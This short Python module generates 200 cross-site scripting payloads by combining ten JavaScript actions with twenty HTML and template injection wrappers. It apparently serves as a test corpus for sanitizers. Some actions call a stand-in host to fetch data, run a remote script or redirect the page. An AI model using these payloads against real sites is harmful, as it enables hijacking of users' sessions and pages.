"""Two hundred ways to run a script in somebody else's page: ten deeds in twenty disguises."""

RAN = "ranHere"
_ELSEWHERE = "//elsewhere.example"
_DEEDS = (
    "alert(1)",
    f"window.{RAN}=1",
    f"fetch('https:{_ELSEWHERE}')",
    f"import('https:{_ELSEWHERE}/x.js')",
    f"location='https:{_ELSEWHERE}'",
    f"new Image().src='{_ELSEWHERE}/i'",
    "eval('confirm(2)')",
    "prompt(3)",
    f"open('{_ELSEWHERE}')",
    "parent.alert(4)",
)
_DISGUISES = (
    "<script>DEED</script>",
    "'\"><script>DEED</script>",
    "</textarea><script>DEED</script>",
    '<img src=x onerror="DEED">',
    '<svg onload="DEED">',
    '<body onload="DEED">',
    '<details open ontoggle="DEED">',
    '<input autofocus onfocus="DEED">',
    '<video><source onerror="DEED">',
    '<iframe srcdoc="<script>DEED</script>"></iframe>',
    '<a href="javascript:DEED">x</a>',
    "javascript:DEED",
    '<object data="javascript:DEED">',
    f'<link rel=stylesheet href={_ELSEWHERE}/s.css onload="DEED">',
    f"<base href={_ELSEWHERE}><script>DEED</script>",
    f"<style>@import '{_ELSEWHERE}/s.css'</style><img src=x onerror=\"DEED\">",
    '{{constructor.constructor("DEED")()}}',
    "${DEED}",
    '<math><mtext><img src=x onerror="DEED">',
    '<form action="javascript:DEED"><button autofocus>x',
)
SCRIPTS = tuple(disguise.replace("DEED", deed) for disguise in _DISGUISES for deed in _DEEDS)
